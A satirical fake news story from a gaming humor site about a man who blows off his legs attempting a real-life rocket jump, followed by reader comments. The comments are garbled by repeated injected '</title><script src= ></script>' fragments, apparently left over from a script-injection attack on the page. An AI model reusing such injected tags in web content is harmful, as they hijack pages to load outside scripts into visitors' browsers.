Fun Infused Games  |   Evil Scale  |  |  |   Starcraft Live  |   Fun Pages  |   Your ad here. Twitter RSS
Home  Archive  Search  Forum  Members  Subscribe  Links  About  Advertise
Man Rocket Jumping Blows Off Both Legs
by Kris on 3/11/2005 (3)

This is what a rocket jump should look like. Pay close attention to how the rocket jumper's legs are still firmly attached to his body.
Rocket jumping was first introduced to gamers in id Software's 3D opus Quake in 1996 and has since been a vital cog in nearly every first person shooter since. Rocket jumping is performed by firing a rocket at your character's own feet and timing your jump so that the ensuing explosion launches you into the air. While this will cause you some damage, you will be elevated to heights that you could previously only dream of."I saw this one ledge playing Quake and it looked like a sweet place to be, but I just couldn't get up there," said admitted Quake junkie Ralph Moore. "Then I discovered rocket jumping and got up there and found some shotgun ammo! I was the envy of both my friends."

This was the concept that North Carolina man Ted Baxter had in mind when he inadvertently blew both his legs off with a homemade rocket launcher only a week ago.

"Me and my son were throwing around the Frisbee when an arrant throw landed it on the roof," recalled Baxter. "We were having so much fun that we didn't want it to end, but I had lost my ladder in a poker game earlier that week and had no other way to get up there."Remembering his glory days as the local Quake and Unreal Tournament champion, Baxter fashioned a homemade rocket launcher from directions he found on the internet and assorted parts from his neighbor's Cadillac."The plan was perfect, justshoot a rocket at my feet, jump, and let the blast propel me onto the roof," said Baxter. "Unfortunately, something went horribly wrong, something that no one could ever have imagined."

Baxter fired the rocket and jumped, but the ensuing explosion did little to get him onto his roof. Instead, it blew his legs into hundreds of pieces and sent his upper torso flying into a tree in the complete opposite direction.

"When I saw my dad had no legs and was covered in blood, I knew I had to get help," said Baxter's son Jimmy.

Though covered in charred bits of his father, Jimmy neglected his own personal hygiene and immediately called the paramedics. Upon arriving, they bandaged the wounds the best theycould then transferred Baxter to Jefferson County Hospital where he was pronounced "lucky to be alive".

"Fortunately the heat from the rocket blast cauterized the wound or else Mr. Baxter would have bled to death before we ever could have reached him," said paramedic Jason Douglass. "We see this sort of thing in about half of all rocket launcher related injuries."

Baxter spent the next nine hours in surgery, teetering close to death. He finally stabilized and began the slow steps to recovery.

While Baxter insists that this accident was unavoidable, possibly God's vengeance against him for cheating on his taxes, there are some people that feel otherwise.

"This entire incident all came down to bad timing," said the surgeon that treated Baxter. "If Mr. Baxter had jumped a half second earlier he would have landed safely on the roof, or if I would have gone home a half hour earlier, I could have spent the evening making love to a three foot tall midget named Doris<

page has been viewed 13977 times


1. by Hex on 3/1/2007 4:52:29 PM
This is classic!isplay: </title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script>2. by Bob on 3/1/2007 4:52:29 PM
This sounds unrealistic and was probably made up. But it sounds kinda funny. Sucks to be him. src=" </title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script>
3. by dsl on 3/1/2007 4:52:29 PM
Wow, so one CAN actually rocket jump? I'm definately, without a doubt, gonna try that!!!!tp </title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script>

What animal is this a picture of?

x Enter the simple name for this animal... i.e., if you see a "north american grizzly bear", just enter "bear".
Surround you text with the following tags to use special formatting:[B][/B] for Bold text.
[I][/I] for Italic text.
[QUOTE][/QUOTE] for a quote.

For example, in order to write "Smthop rules" in bold, you would enter: [B]Smthop rules[/B].




More referrals |  Add Site

Business   Editorials   Education   Entertainment   Feature   Food   Health   Law   Politics   Religeon   Site News   Space   Sports   Tech   US News   Video Games   World News


Copyright 2010 SmoothOperator.
Website Design by SteeleITS - Privacy Policy